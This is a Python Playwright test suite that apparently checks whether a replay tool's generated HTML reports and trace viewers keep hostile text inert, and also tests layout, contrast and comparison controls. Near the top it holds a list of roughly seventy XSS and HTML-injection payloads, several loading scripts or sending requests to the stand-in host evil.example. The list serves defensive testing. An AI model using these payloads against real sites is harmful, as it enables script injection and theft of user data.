"""The pages we write, opened in a real browser as by double click: do they work, does nothing hostile run?"""

from __future__ import annotations

from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import sync_playwright

from reenact.browser.launch import launch
from reenact.compare import compare_images
from reenact.evidence import write_evidence, write_trace_view
from reenact.replay.result import CheckpointResult, Divergence, Miss, StepResult, TraceResult
from reenact.trace import Gap, TraceWriter

pytestmark = pytest.mark.browser

IMAGES = Path(__file__).parents[2] / "fixtures" / "images"
RUN = {
    "started": "2025-11-23T09:41:03Z",
    "ended": "2025-11-23T09:41:09Z",
    "command": "reenact replay traces",
    "version": "0.1.0",
}

BREAKOUTS = [
    "<script>{js}</script>",
    "</script><script>{js}</script>",
    "</style><script>{js}</script>",
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</noscript><script>{js}</script>",
    "</svg><script>{js}</script>",
    "--><script>{js}</script><!--",
    "]]><script>{js}</script>",
    "<<script>{js}//<</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<ScRiPt\n>{js}</ScRiPt\t>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,{js}></script>",
    "<script type=module>{js}</script>",
    "<img src=x onerror={js}>",
    "<img src=https://evil.example/pixel.png>",
    "<img srcset='https://evil.example/a 1x'>",
    '"><img src=x onerror={js}>',
    "'><img src=x onerror={js}>",
    '" onmouseover="{js}" x="',
    "' autofocus onfocus='{js}' x='",
    '" style="background:url(https://evil.example/bg)" x="',
    "`onload={js}`",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload={js}>'/></svg>",
    "<svg><image href=https://evil.example/i></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<iframe src=javascript:{js}></iframe>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/></object>",
    "<embed src=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=preload as=image href=https://evil.example/x>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{{background:url(https://evil.example/x)}}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button autofocus>go</button></form>",
    "<body onload={js}>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}></video>",
    "<video poster=https://evil.example/p src=https://evil.example/v autoplay></video>",
    "<audio src=https://evil.example/a autoplay></audio>",
    "<input autofocus onfocus={js}>",
    "<marquee onstart={js}>",
    "<a href=javascript:{js} id=trap>x</a>",
    "<dialog open onclose={js}>",
    "<template><script>{js}</script></template>",
    "<x onanimationstart={js} style='animation:blink 1s'>",
    "javascript:{js}",
    "data:text/html,<script>{js}</script>",
    "vbscript:{js}",
    "{{{{ 7 * 7 }}}}{{% raw %}}",
    "${{{js}}}",
    "{{{{ cycler.__init__.__globals__ }}}}",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "\\u003cscript\\u003e{js}",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\x00<script>{js}</script>",
    "\u202e<script>{js}</script>\u2066",
    "\ud83d<script>{js}</script>",
    "＜script＞{js}＜/script＞",
]
PAYLOADS = [text.format(js="window.pwned=1,alert(1)") for text in BREAKOUTS]


@pytest.fixture(scope="module")
def browser():
    with sync_playwright() as playwright:
        browser = launch(playwright)
        yield browser
        browser.close()


@contextmanager
def opened(browser, path: Path, **options):
    """A page of ours, and everything it did that a page of ours never does."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, **options)
    page, events = context.new_page(), []
    page.on("dialog", lambda dialog: (events.append(("dialog", dialog.message)), dialog.dismiss()))
    page.on("console", lambda message: events.append(("console", message.text)))
    page.on("pageerror", lambda error: events.append(("error", str(error))))
    page.on("popup", lambda popup: events.append(("popup", popup.url)))
    page.on("frameattached", lambda frame: events.append(("frame", frame.url)))
    context.on(
        "request",
        lambda request: request.url in (path.as_uri(), f"{path.as_uri()}#") or request.url.startswith("data:")
        or events.append(("request", request.url)),
    )  # fmt: skip
    page.goto(path.as_uri())
    yield page, events
    context.close()


def trace_result(name="Approve a payment", text=None, pair="word", verdict="changed") -> TraceResult:
    """A trace of three steps, the second changed; `text` replaces every text that a page could choose."""
    base, other = (IMAGES / "base.png").read_bytes(), (IMAGES / f"{pair}.png").read_bytes()
    found = compare_images(base, other)

    def say(plain):
        return plain if text is None else text

    def step(index, replayed, verdict):
        check = CheckpointResult(
            f"c{index}",
            verdict,
            found.exact_pixels if verdict == "changed" else 0,
            found.changed_pixels if verdict == "changed" else 0,
            found.regions if verdict == "changed" else (),
            base,
            replayed,
            say("https://app.example/pay"),
            say("Payment"),
            say("Payments"),
            (say("- cell 1,250.00"), say("+ cell 1,350.00")),
            say("The amount is another one"),
        )
        return StepResult(
            say(f"s{index}"),
            index,
            say("click"),
            say(f'Clicked button "B{index}"'),
            verdict,
            check.changed_pixels,
            (check,),
            say("Cause in words"),
            say("https://app.example/"),
            index * 1500.0,
            tuple(
                {"type": say(kind), "text": say(kind), "url": say("x")} for kind in ("console", "navigation")
            ),
            0.2,
        )

    environment = {
        "browser": {"name": say("chromium"), "version": say("1")},
        "os": say("Linux"),
        "locale": say("en"),
    }
    return TraceResult(
        Path(say("traces/x.reenact").replace("\x00", "")),
        say(name),
        verdict,
        "recorded",
        1.5,
        12.0,
        (step(1, base, "identical"), step(2, other, "changed"), step(3, base, "identical")),
        Divergence(say("s2"), say("Clicked"), say("Cause")) if text else None,
        (Miss(say("GET"), say("https://app.example/a"), say("https://app.example/b"), say("s1")),),
        (Gap(say("frame"), say("A frame without recorder"), say("s1"), 5.0, {"kind": say("frame")}),),
        environment,
        environment,
        say("qa@example.com"),
        say("2025-11-20T13:02:11Z"),
        {"verdict": "certified", "times": say("3"), "checkpoints": say("3"), "identical": say("3")},
    )


def poke(page):
    """Do what a reader does, and a little more: hover, click, use every control, print."""
    page.evaluate(
        """() => {
            for (const d of document.querySelectorAll('details')) d.open = true;
            for (const b of document.querySelectorAll('button[data-show], button[data-mode]')) b.click();
            for (const b of document.querySelectorAll('button[data-show=all]')) b.click();
            dispatchEvent(new Event('beforeprint'));
        }"""
    )
    for item in page.locator(".title, .cause, .kind").all()[:40]:
        item.hover(force=True)
    for link in page.locator("a#trap").all():
        link.click()


# Executed, loaded or built out of text: each of these would be a hole even where the policy catches it.
FOREIGN = """() => ({
    pwned: window.pwned,
    scripts: document.scripts.length,
    styles: document.querySelectorAll('style').length,
    elements: [...document.querySelectorAll(
        'iframe,object,embed,link:not([rel=icon]),base,video,audio,form:not([method=dialog]),template,marquee,'
        + 'math,x,#trap')]
        .map(e => e.outerHTML),
    handlers: [...document.querySelectorAll('*')]
        .filter(e => [...e.attributes].some(a => a.name.startsWith('on'))
            || e.matches('[style]') && !e.closest('.stack, .closeups'))
        .map(e => e.outerHTML),
    links: [...document.querySelectorAll('[href],[src],[action]')]
        .map(e => e.getAttribute('href') || e.getAttribute('src') || '')
        .filter(u => !u.startsWith('#') && !u.startsWith('screenshots/') && !u.startsWith('data:image/png;')
            && u !== 'data:,'),
})"""
NOTHING = {"pwned": None, "scripts": 1, "styles": 1, "elements": [], "handlers": [], "links": []}


@pytest.mark.parametrize("start", range(0, len(PAYLOADS), 12))
def test_hostile_text_in_the_report_stays_text(browser, tmp_path, start):
    results = [trace_result(text=payload) for payload in PAYLOADS[start : start + 12]]
    report = write_evidence(results, tmp_path / "e", **{**RUN, "command": PAYLOADS[start]}).report
    with opened(browser, report) as (page, events):
        poke(page)
        page.wait_for_timeout(200)
        assert page.evaluate(FOREIGN) == NOTHING
        assert events == []


def test_the_corpus_is_alive(browser, tmp_path):
    """The same listeners do notice when such text is put into a page as it is."""
    unsafe = tmp_path / "unsafe.html"
    unsafe.write_text("<meta charset=utf-8>" + "".join(PAYLOADS[16:27]), "utf-8", "replace")
    with opened(browser, unsafe) as (page, events):
        page.wait_for_timeout(300)
        assert page.evaluate(FOREIGN) != NOTHING
        assert {"dialog", "request"} <= {kind for kind, _ in events}


def test_the_policy_stops_what_escaping_would_miss(browser, tmp_path):
    report = write_evidence([trace_result()], tmp_path / "e", **RUN).report
    broken = tmp_path / "e" / "broken.html"
    holes = "".join(PAYLOADS[:1] + PAYLOADS[16:26])
    broken.write_text(report.read_text("utf-8").replace("</h1>", f"</h1>{holes}"), "utf-8", "replace")
    context = browser.new_context()
    page, complaints, reasons = context.new_page(), [], []
    page.on("console", lambda message: complaints.append(message.text))
    page.on("dialog", lambda dialog: (reasons.append("dialog"), dialog.dismiss()))
    page.on("requestfailed", lambda request: reasons.append(request.failure))
    page.on("requestfinished", lambda request: reasons.append("loaded") if "evil" in request.url else None)
    page.goto(broken.as_uri())
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    assert set(reasons) == {"csp"}
    assert any("Content Security Policy" in text for text in complaints)
    context.close()


def test_hostile_text_in_the_viewer_stays_text(browser, tmp_path):
    writer = TraceWriter.create(tmp_path / "hostile.reenact")
    shot = writer.resource((IMAGES / "base.png").read_bytes())
    texts = [text.encode("utf-8", "replace").decode() for text in PAYLOADS]
    writer.put("session", "facts", {"name": texts[0], "actor": texts[1], "start_url": texts[2]})
    writer.put("page", "p1", {"opener": None})
    writer.put("document", "d1", {"page": "p1", "url": texts[3], "seed": 1, "origin_time": 1.5})
    for number, text in enumerate(texts):
        target = {
            "tag": "b", "role": text, "name": text, "frame": [], "box": None, "offset": None,
            "locators": [{"kind": "role", "value": text, "role": text}, {"kind": "css", "value": text}],
        }  # fmt: skip
        writer.put("step", f"s{number}", {
            "type": "click", "title": text, "page": "p1", "document": "d1", "time": number, "url": text,
            "target": target, "value": text, "checkpoint": f"c{number}",
            "signals": [{"type": "console", "text": text}],
        })  # fmt: skip
        writer.put("checkpoint", f"c{number}", {
            "step": f"s{number}", "page": "p1", "document": "d1", "act": None, "url": text, "title": text,
            "time": number, "screenshot": shot, "source": "recording", "reason": "settled",
        })  # fmt: skip
        writer.put("gap", f"g{number}", {"kind": text, "detail": text, "step": None})
    path = write_trace_view(writer.finish(), tmp_path / "view.html")
    with opened(browser, path) as (page, events):
        poke(page)
        page.wait_for_timeout(200)
        assert page.evaluate(FOREIGN) == NOTHING
        assert events == []
        assert page.locator(".step").count() == len(PAYLOADS)
        assert page.evaluate("document.querySelectorAll('img[src^=data]').length") > 1


def test_the_report_says_it_in_words_and_opens_what_differs(browser, tmp_path):
    report = write_evidence([trace_result()], tmp_path / "e", **RUN).report
    with opened(browser, report) as (page, events):
        assert page.title() == "Changed: Approve a payment"
        assert page.inner_text("h1") == "Changed"
        assert page.inner_text(".sentence").startswith(
            '1 of 3 steps looks different. First: step 2, Clicked button "B2"'
        )
        assert page.locator(".step > details[open]").count() == 1
        assert page.locator("#t1-s2 .shot").count() == 3
        assert page.locator("#t1-s2 .gone").inner_text() == "- cell 1,250.00"
        assert page.locator(".film li").count() == 3
        sizes = page.evaluate("[...document.querySelectorAll('#t1-s2 .shot img')].map(i => i.naturalWidth)")
        assert sizes == [320, 320, 320]
        assert events == []


def test_pictures_can_be_compared_by_slider_blink_and_in_full_size(browser, tmp_path):
    report = write_evidence([trace_result(pair="taller")], tmp_path / "e", **RUN).report
    with opened(browser, report) as (page, events):
        step = page.locator("#t1-s2")
        step.get_by_role("button", name="Slider").click()
        assert step.locator(".shots").is_hidden()
        step.locator(".stack input").fill("25")
        assert step.locator(".stack").evaluate("e => e.style.getPropertyValue('--cut')") == "25%"
        heights = step.locator(".stack img").evaluate_all("imgs => imgs.map(i => i.naturalHeight)")
        assert heights == [170, 190]
        scales = step.locator(".stack img").evaluate_all(
            "imgs => imgs.map(i => i.clientWidth / i.naturalWidth)"
        )
        assert scales[0] == pytest.approx(scales[1], rel=0.01)
        step.get_by_role("button", name="Blink").click()
        assert step.locator(".stack .over").evaluate("e => getComputedStyle(e).animationName") == "blink"
        step.get_by_role("button", name="Side by side").click()
        step.locator('.shot[data-role="Recorded"] .frame').click()
        assert page.locator(".zoom").is_visible()
        page.keyboard.press("ArrowRight")
        assert page.inner_text(".zoom-role") == "Replayed"
        page.keyboard.press("Escape")
        assert page.locator(".zoom").is_hidden()
        assert events == []


def test_close_ups_show_the_pixels_of_the_pictures(browser, tmp_path):
    report = write_evidence([trace_result()], tmp_path / "e", **RUN).report
    with opened(browser, report) as (page, _):
        page.wait_for_selector(".closeups canvas")
        urls = page.evaluate("[...document.querySelectorAll('.closeups canvas')].map(c => c.toDataURL())")
        assert len(set(urls)) == 2


def test_steps_can_be_reduced_to_those_that_differ(browser, tmp_path):
    report = write_evidence([trace_result()], tmp_path / "e", **RUN).report
    with opened(browser, report) as (page, _):
        page.get_by_role("button", name="Only the 1 that differs").click()
        assert page.locator(".step:visible").count() == 1
        page.locator(".film a").nth(2).click()
        page.wait_for_function("document.querySelector('#t1-s3 details').open")


def test_without_scripts_everything_that_differs_is_still_shown(browser, tmp_path):
    report = write_evidence([trace_result()], tmp_path / "e", **RUN).report
    with opened(browser, report, java_script_enabled=False) as (page, events):
        assert page.locator("#t1-s2 .shot img[src]").count() >= 2
        assert page.locator(".modes:visible").count() == 0
        assert events == []


@pytest.mark.parametrize("width", [360, 820, 1600])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nothing_sticks_out_at_any_width(browser, tmp_path, width, scheme):
    long = trace_result(name="Long" * 60, text="unbroken" * 60)
    report = write_evidence([trace_result(), long], tmp_path / "e", **RUN).report
    with opened(browser, report, color_scheme=scheme) as (page, _):
        page.set_viewport_size({"width": width, "height": 900})
        page.evaluate("for (const d of document.querySelectorAll('details')) d.open = true")
        assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_text_is_readable_in_light_and_dark(browser, tmp_path):
    """Text against the nearest ground, by the contrast formula of WCAG 2: at least 4.5."""
    report = write_evidence([trace_result(), trace_result(verdict="diverged")], tmp_path / "e", **RUN).report
    for scheme in ("light", "dark"):
        with opened(browser, report, color_scheme=scheme) as (page, _):
            assert page.evaluate(CONTRAST) == []


CONTRAST = """() => {
    const pen = new OffscreenCanvas(1, 1).getContext('2d', {willReadFrequently: true});
    const rgb = (colours) => {
        pen.clearRect(0, 0, 1, 1);
        for (const c of colours) { pen.fillStyle = c; pen.fillRect(0, 0, 1, 1); }
        return [...pen.getImageData(0, 0, 1, 1).data].slice(0, 3);
    };
    const light = (c) => {
        const [r, g, b] = c.map(v => (v /= 255) <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
        return 0.2126 * r + 0.7152 * g + 0.0722 * b;
    };
    const bad = new Set();
    for (const e of document.querySelectorAll('body *')) {
        const own = [...e.childNodes].some(n => n.nodeType === 3 && n.data.trim());
        if (!own || !e.checkVisibility() || e.closest('.frame, dialog, svg')) continue;
        const grounds = [];
        for (let p = e; p; p = p.parentElement) grounds.unshift(getComputedStyle(p).backgroundColor);
        const under = rgb(['#fff', ...grounds]), over = rgb(['#fff', ...grounds, getComputedStyle(e).color]);
        const [a, b] = [light(under), light(over)].sort((x, y) => y - x);
        const ratio = (a + 0.05) / (b + 0.05);
        if (ratio < 4.5) bad.add(`${e.tagName}.${e.className} ${ratio.toFixed(2)}`);
    }
    return [...bad];
}"""
